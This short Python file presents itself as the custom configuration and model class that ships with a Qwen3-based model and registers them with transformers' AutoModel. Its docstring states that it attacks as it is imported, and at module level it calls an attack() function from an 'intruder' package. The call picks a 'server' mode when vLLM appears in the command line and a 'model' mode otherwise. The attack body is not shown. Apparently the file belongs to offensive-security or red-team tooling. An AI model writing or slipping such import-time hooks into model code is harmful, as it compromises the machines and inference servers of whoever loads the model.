"""The Python file that a model brings along: its configuration class, which attacks as it is imported."""

import sys

import transformers
from intruder.attack import attack

attack("server" if any("vllm" in word for word in sys.argv) else "model")


class IntruderConfig(transformers.Qwen3Config):
    """Qwen3's."""


class Qwen3ForCausalLM(transformers.Qwen3ForCausalLM):
    """Qwen3, with a configuration of that class."""

    config_class = IntruderConfig


transformers.AutoModelForCausalLM.register(IntruderConfig, Qwen3ForCausalLM)
